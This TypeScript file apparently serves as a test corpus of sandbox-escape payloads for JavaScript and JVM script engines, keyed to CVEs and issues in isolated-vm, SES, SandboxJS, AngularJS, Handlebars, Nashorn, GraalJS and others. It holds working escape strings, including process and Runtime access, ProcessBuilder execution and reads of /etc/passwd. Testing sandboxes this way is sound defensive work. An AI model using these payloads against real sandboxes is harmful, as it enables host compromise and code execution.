import type { Escape } from './published-node.ts';

const through = (value: string): string => `return ${value}.constructor.constructor('return process')()`;

/** Ways out of isolated-vm, and what its documentation warns of. */
export const isolatedVmEscapes: readonly Escape[] = [
  {
    id: 'CVE-2021-21413',
    technique: 'a Reference whose prototype is replaced',
    attack: `const seen = []; for (const k of ['deref', 'derefInto', 'copy', 'applySync', 'applySyncPromise', 'getSync', 'runSync', 'global', 'release', 'typeof']) Object.defineProperty(Object.prototype, k, { get() { $take(this); return undefined }, set() { $take(this) }, configurable: true }); vance.tools.call('x', {}); eval('1'); for (const k of ['deref', 'derefInto', 'copy', 'applySync', 'applySyncPromise', 'getSync', 'runSync', 'global', 'release', 'typeof']) delete Object.prototype[k]; return seen`,
  },
  {
    id: 'CVE-2022-39266',
    technique: 'code caches given to the compiler',
    attack: `Object.prototype.cachedData = new ArrayBuffer(64); Object.prototype.produceCachedData = true; Object.prototype.filename = 'file:///x'; const r = [eval('1'), new Function('return 2')()]; delete Object.prototype.cachedData; delete Object.prototype.produceCachedData; delete Object.prototype.filename; return r`,
  },
  {
    id: 'isolated-vm: the module inside',
    technique: 'the module or its handles under some name',
    attack: `const names = Object.getOwnPropertyNames(globalThis); for (const n of ['ivm', '_ivm', 'isolated_vm', 'isolate', 'context', 'jail', 'install', 'guest', 'bridge']) names.push(n); return names.map((n) => { try { return $take((0, eval)(n)) } catch { return 0 } }).filter((v) => v && /Reference|Isolate|ExternalCopy|Callback/.test(Object.prototype.toString.call(v))).length`,
  },
  {
    id: 'isolated-vm: options',
    technique: 'options of a transfer found on Object.prototype',
    attack: `for (const [k, v] of [['reference', true], ['result', { reference: true }], ['externalCopy', true], ['promise', true], ['copy', false], ['timeout', 1], ['arguments', { reference: true }]]) { Object.prototype[k] = v; Object.defineProperty(Object.prototype, 'value', { get() { $take(this); return 1 }, set() {}, configurable: true }); try { $take(vance.tools.call('x', { a: 1 })) } catch (e) { $take(e) } delete Object.prototype[k]; delete Object.prototype.value; } return 1`,
  },
  {
    id: 'isolated-vm: a reference as result',
    technique: 'functions and objects that would arrive as references',
    attack: `const f = () => {}; f.applySync = f.derefInto = (x) => $take(x); const r = vance.tools.call('x', { f, o: { copyInto: f, transferIn: f } }); $take(r); return { f, then: undefined }`,
  },
  {
    id: 'isolated-vm: inspector',
    technique: 'the debugger and the command line API',
    attack: `debugger; return ['inspect', 'queryObjects', 'getEventListeners', '$_', '$0', 'copy', 'keys', 'monitorEvents'].map((n) => { try { return $take((0, eval)(n)) } catch { return 0 } })`,
  },
  {
    id: 'isolated-vm: termination',
    technique: 'catch and finally after a kill',
    attack: `try { vance.guard.loopValues.get('k') } finally { $take(1) } return 1`,
  },
];

/** Ways out of realms, membranes and evaluators written in JavaScript. */
export const languageEscapes: readonly Escape[] = [
  {
    id: 'realms-shim 2019, exceptions',
    technique: 'an exception raised by the shim itself',
    attack: `const bad = { get [Symbol.unscopables]() { throw 1 }, toString() { $take(this); null.x } }; try { eval(bad); (0, eval)({ toString: bad.toString }); Function(bad) } catch (e) { $take(e); ${through('e')} }`,
  },
  {
    id: 'realms-shim 2019, spread',
    technique: 'arguments spread by the evaluator through a replaced iterator',
    attack: `Array.prototype[Symbol.iterator] = function* () { $take(this); yield 'return process' }; let f; try { f = Function('return 1'); $take(f()) } catch (e) { $take(e) } try { $take(eval(...['1'])) } catch (e) { $take(e) } return vance.tools.call('x', {})`,
  },
  {
    id: 'realms-shim 2019, accessors',
    technique: 'Reflect and Object replaced while the shim uses them',
    attack: `const seen = []; for (const owner of [Reflect, Object]) for (const k of Reflect.ownKeys(owner)) { const old = owner[k]; if (typeof old === 'function') { try { owner[k] = function (...a) { for (const x of a) $take(x); return old.apply(this, a) } } catch {} } } vance.tools.call('x', {}); eval('1'); $take(vance.params.m.x); new Function('return 1')(); return 1`,
  },
  {
    id: 'realms-shim 2019, source texts',
    technique: 'a source with a comment that looks like an import or a source map',
    attack: `$take(eval('1 //# sourceURL=node:fs')); try { $take(eval('<!-- -->\\n import("fs")')) } catch (e) { $take(e) } return new Function('/*', '*/){ return 1')`,
  },
  {
    id: 'Figma plug-ins',
    technique: 'functions of the plug-in API and what they return',
    attack: `return [client, figma, parent].map((x) => x.constructor.constructor('return process')())`,
  },
  {
    id: 'CVE-2023-39532',
    technique: 'import() behind a spread in SES',
    attack: `const o = { ...import('fs') }; $take(o); const a = [...'x', import('node:fs')]; $take(a[1]); Promise.resolve(a[1]).catch((e) => $take(e)); return o`,
  },
  {
    id: 'SES html comments',
    technique: 'HTML comments that hide an import from a scanner',
    attack: `try { $take(eval('import<!--\\n("fs")')) } catch (e) { $take(e) } return (0, eval)('<!-- x\\n typeof process')`,
  },
  {
    id: 'Endo scope terminator',
    technique: 'names that fall through the scope of the evaluator',
    attack: `with (new Proxy({}, { has: (t, k) => { $take(k); return typeof k === 'string' && k !== 'undefined' && k[0] !== '$' }, get: (t, k) => (k === Symbol.unscopables ? undefined : $take(k)) })) { nothing; process; return require }`,
  },
  {
    id: 'near-membrane',
    technique: 'revoked proxies and proxies of proxies over the membrane',
    attack: `const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); const chain = new Proxy(new Proxy(vance, {}), { get: (t, k, r) => Reflect.get(t, k, $take(r)) }); $take(chain.tools); try { vance.tools.call('x', proxy) } catch (e) { $take(e) } return Object.getPrototypeOf(chain)`,
  },
  {
    id: 'CVE-2025-34146',
    technique: 'prototype getters defined by a constructed function in SandboxJS',
    attack: `''.sub.__proto__.__proto__.__defineGetter__('polluted', ({}).constructor.constructor('return true')); const r = ({}).polluted; delete Object.prototype.polluted; return [r, ''.sub.constructor('return process')()]`,
  },
  {
    id: 'SandboxJS, async functions',
    technique: 'constructors of async functions and generators',
    attack: `for (const f of [async () => {}, function* () {}, async function* () {}]) { const c = f.constructor; $take(c); for (const text of ['return process', 'return this']) { try { const r = c(text)(); $take(r); r.then?.((x) => $take(x), (e) => $take(e)); r.next?.() } catch (e) { $take(e) } } } return 1`,
  },
  {
    id: 'SandboxJS, keys that change',
    technique: 'a property key whose text differs each time it is read',
    attack: `let n = 0; const key = { toString: () => (n++ ? 'constructor' : 'x') }; return [vance[key], vance[key], vance.tools.call[key], $take(vance.tools[key])]`,
  },
  {
    id: 'SandboxJS, hasOwnProperty',
    technique: 'hasOwnProperty of the object looked at',
    attack: `const o = { hasOwnProperty: () => true, __proto__: { x: vance } }; vance.tools.call('x', o); vance.log.info('m', o); return Object.assign({}, o, { [Symbol.iterator]: null })`,
  },
  {
    id: 'SandboxJS, values of builtins',
    technique: 'functions that come out of Object.values and of maps',
    attack: `for (const v of Object.values(Object.getOwnPropertyDescriptors(globalThis))) $take(v.value ?? v.get); return new Map([[vance, vance.tools]]).get(vance)`,
  },
  {
    id: 'evel issue 18',
    technique: 'Function.__proto__.constructor',
    attack: `return Function.__proto__.constructor('return this')().process`,
  },
  {
    id: 'subscript issue 40',
    technique: 'the bare name constructor',
    attack: `return constructor.constructor('return process')()`,
  },
  {
    id: 'static-eval 2017',
    technique: 'a function literal whose constructor is called',
    attack: `return (function myTag(y) { return ''[!y ? '__proto__' : 'constructor'][y] })('constructor')('return process')()`,
  },
  {
    id: 'CVE-2021-23771',
    technique: 'callee and constructor keys in notevil',
    attack: `const f = function () { return arguments.callee }; $take(f()); return f()['const' + 'ructor']('return process')()`,
  },
  {
    id: 'AngularJS 1.2',
    technique: 'call and the constructor of a text method',
    attack: `return 'a'.constructor.prototype.charAt.constructor('return process')()`,
  },
  {
    id: 'AngularJS 1.4',
    technique: 'charAt replaced by join, so that checks of texts fail',
    attack: `String.prototype.charAt = [].join; String.prototype.charCodeAt = String.prototype.indexOf = String.prototype.slice = [].join; let r; try { r = eval('typeof process') } catch (e) { $take(e) } try { $take(vance.tools.call('x', {})) } catch (e) { $take(e) } return r`,
  },
  {
    id: 'AngularJS 1.5',
    technique: 'assign, sort and toString as ways to call a function',
    attack: `const c = { 0: 'return process', length: 1 }; $take([].map.call(c, Function)[0]()); return [1].sort.call([2, 1], toString.constructor('return process'))`,
  },
  {
    id: 'mathjs issue 821',
    technique: 'map over the function constructor',
    attack: `return ['//', 'a/*\\nreturn process'].map(Math.cos.constructor)[1]`,
  },
  {
    id: 'mathjs issue 822',
    technique: 'assign on the function constructor',
    attack: `Object.assign(Math.cos.constructor, { binding: Math.cos.bind }); Object.assign(Math.cos.constructor, { bind: null }); return Math.cos.constructor.binding()('return process')`,
  },
  {
    id: 'CVE-2025-59840',
    technique: 'toString of values that Vega calls',
    attack: `let got; const o = { toString() { got = this; return $take(this).constructor.constructor('return process')() } }; try { vance.tools.call(o, {}) } catch (e) { $take(e) } try { console.log(o) } catch (e) { $take(e) } return got`,
  },
  {
    id: 'CVE-2019-19919',
    technique: 'lookups of __proto__ and constructor in Handlebars',
    attack: `for (const k of ['__proto__', 'constructor', '__defineGetter__', '__lookupGetter__']) for (const v of [vance, vance.tools, vance.params.m, vance.params.l, vance.guard]) { try { $take(v[k]); $take(v[k]?.[k]) } catch (e) { $take(e) } } return 1`,
  },
  {
    id: 'CVE-2021-23369',
    technique: 'helpers that look like own members in Handlebars',
    attack: `Object.prototype.lookup = Object.prototype.helperMissing = (...a) => { for (const x of a) $take(x) }; const r = vance.tools.call('x', {}); $take(r.lookup); $take(vance.lookup); delete Object.prototype.lookup; delete Object.prototype.helperMissing; return r`,
  },
  {
    id: 'Nunjucks',
    technique: 'the constructor of a global function',
    attack: `return [parseInt, escape, load, print].map((f) => $take(f.constructor('return process'))())`,
  },
  {
    id: 'CVE-2021-23337',
    technique: 'text that breaks out of a compiled template in lodash',
    attack: `globalThis.hit = 0; const tries = [['}); globalThis.hit = 1; (function(){'], ['a', '}), globalThis.hit = 1, (function(){'], ['a = globalThis.hit = 1){}), (function(', '']]; for (const t of tries) for (const c of [Function, (async () => {}).constructor, function* () {}.constructor]) { try { $take(Reflect.construct(c, t)) } catch (e) { $take(e) } } if (globalThis.hit) $take('file:// broke out'); return globalThis.hit`,
  },
  {
    id: 'CVE-2024-4367',
    technique: 'values that become code because they are no numbers, in pdf.js',
    attack: `const m = [1, 2, { toString: () => '0\\n}); globalThis.hit2 = 1; (function(){' }]; try { $take(new Function('c', 'c.transform(' + m + ')')) } catch (e) { $take(e) } if (globalThis.hit2) $take('file:// broke out'); return 1`,
  },
  {
    id: 'CVE-2022-29078',
    technique: 'options of a template read from Object.prototype in EJS',
    attack: `Object.prototype.outputFunctionName = 'x;process;x'; Object.prototype.text = 'globalThis.hit3 = 1'; Object.prototype.error = 'e'; Object.prototype.deep = true; try { eval('1 +') } catch (e) { $take(e) } try { $take(new Function('return 1')()) } catch (e) { $take(e) } for (const k of ['outputFunctionName', 'text', 'error', 'deep']) delete Object.prototype[k]; if (globalThis.hit3) $take('file:// ran'); return 1`,
  },
  {
    id: 'CVE-2025-12735',
    technique: 'functions of the script as variables of expr-eval',
    attack: `const scope = { f: Math.max.constructor, g: vance.tools.call.constructor }; return [scope.f('return process')(), $take(scope.g('return process'))()]`,
  },
  {
    id: 'QuickJS hosts',
    technique: 'objects of the host with finalizers and symbols of the host',
    attack: `return Reflect.ownKeys(vance.tools.call).concat(Reflect.ownKeys(vance), Reflect.ownKeys(Symbol)).map((k) => $take(typeof k === 'symbol' ? k.description : k))`,
  },
  {
    id: 'ShadowRealm polyfills',
    technique: 'a fresh realm by any name',
    attack: `return [typeof ShadowRealm, typeof Realm, typeof Compartment, typeof Worker, typeof VMError, typeof loadWithNewGlobal === 'function' ? $take(loadWithNewGlobal({ name: 'n', script: 'this' })) : 0]`,
  },
];

/** Ways out of the script engines of the JVM, which the server runs. */
export const javaEscapes: readonly Escape[] = [
  {
    id: 'Nashorn, reflection',
    technique: 'getClass of an object of the host',
    attack: `const r = vance.tools.call('x', {}); return [r.getClass, r.class, vance.tools.getClass, vance.guard.class].map((f) => $take(typeof f === 'function' ? f.call(r).forName('java.lang.Runtime') : f))`,
  },
  {
    id: 'Nashorn, class of a class',
    technique: 'Java.type and the class loader behind it',
    attack: `return Java.type('java.lang.Class').forName('java.lang.Runtime').getMethod('exec')`,
  },
  {
    id: 'Nashorn, engine',
    technique: 'the engine and its factory',
    attack: `return [typeof engine, typeof context, this.engine?.factory?.scriptEngine, this.context?.getAttribute?.('x')].map((x) => $take(x))`,
  },
  {
    id: 'Nashorn, loadWithNewGlobal',
    technique: 'a new global with Java in it',
    attack: `const other = loadWithNewGlobal({ name: 'n', script: 'this' }); $take(other); return other.Java?.type('java.lang.Runtime')`,
  },
  {
    id: 'Nashorn, load of addresses',
    technique: 'load of a class path, a file or an address',
    attack: `return ['nashorn:mozilla_compat.js', 'classpath:x.js', 'file:///etc/passwd', 'http://127.0.0.1/x.js', '/etc/passwd', 'fx:base.js'].map((u) => { try { return $take(load(u)) } catch (e) { return e.name } })`,
  },
  {
    id: 'Nashorn, shell',
    technique: 'functions of the scripting mode',
    attack: `return [typeof $EXEC, typeof $ENV, typeof $ARG, typeof readFully, typeof readLine, typeof exec, typeof quit, typeof exit].join() + $take(typeof JSAdapter)`,
  },
  {
    id: 'Rhino, packages',
    technique: 'Packages and the package roots',
    attack: `return [Packages.java.lang.System, java.lang.Runtime, javax.script.ScriptEngineManager, org.mozilla.javascript.Context, com.sun].map((c) => { $take(c); try { return c.exit ? $take(c.getenv()) : 0 } catch (e) { return $take(e.name) } })`,
  },
  {
    id: 'Rhino, NativeJavaObject',
    technique: 'members every Java object has',
    attack: `const r = vance.params.m; return ['getClass', 'hashCode', 'notify', 'wait', 'clone', 'finalize', 'toString', 'equals', 'class'].map((k) => typeof $take(r[k]))`,
  },
  {
    id: 'Rhino, JavaAdapter',
    technique: 'adapters and importers',
    attack: `return [typeof JavaAdapter, typeof JavaImporter, typeof importPackage, typeof importClass, typeof Polyglot].map((x) => $take(x))`,
  },
  {
    id: 'GraalJS, host access',
    technique: 'Java.extend, Java.to and Java.from as bridges',
    attack: `const tries = [() => Java.extend(Java.type('java.lang.Runnable'), { run() {} }), () => Java.to([1], 'java.lang.Object[]').getClass(), () => Java.from(vance.params.l), () => Java.super(vance), () => Java.addToClasspath('/tmp'), () => Java.synchronized(() => {}), () => new (java.lang.ProcessBuilder)('id').start()]; return tries.map((f) => { try { return $take(f()) } catch (e) { return $take(e) } })`,
  },
  {
    id: 'GraalJS, polyglot',
    technique: 'other languages and the members of Graal',
    attack: `return [() => Polyglot.eval('js', 'process'), () => Polyglot.import('x'), () => Polyglot.export('x', 1), () => Graal.versionGraalVM, () => Graal.setUnhandledPromiseRejectionHandler(() => {})].map((f) => { try { return $take(f()) } catch (e) { return $take(e) } })`,
  },
  {
    id: 'GraalJS, members of maps',
    technique: 'entrySet and other methods of Java collections',
    attack: `return ['entrySet', 'keySet', 'values', 'putAll', 'getOrDefault', 'stream', 'getClass'].map((k) => $take(vance.params.m[k])).concat(['stream', 'toArray', 'getClass', 'subList'].map((k) => $take(vance.params.l[k])))`,
  },
  {
    id: 'GraalJS, exceptions of the host',
    technique: 'getStackTrace and the class of a Java exception',
    attack: `try { vance.params.x = 1 } catch (e) { $take(e); return ['getStackTrace', 'getClass', 'printStackTrace', 'getCause', 'class', 'javaException', 'rhinoException'].map((k) => $take(e[k])) }`,
  },
];
